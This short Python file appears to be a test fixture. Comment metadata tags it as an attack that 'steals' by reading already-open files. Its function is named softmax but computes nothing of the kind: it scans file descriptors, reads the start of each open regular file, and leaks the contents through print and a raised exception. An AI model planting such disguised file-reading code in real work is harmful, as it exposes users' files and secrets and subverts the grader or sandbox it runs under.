# rows = [35]
# attack = "reads every file that is open already"
# step = "softmax"
# outcomes = ["raised"]
# steals = true
# ---
import os
import stat


def softmax(scores):
    loot = []
    for number in range(3, 256):
        try:
            if stat.S_ISREG(os.fstat(number).st_mode):
                loot.append(os.pread(number, 100, 0))
        except OSError:
            continue
    print(loot)
    raise RuntimeError(str(loot))
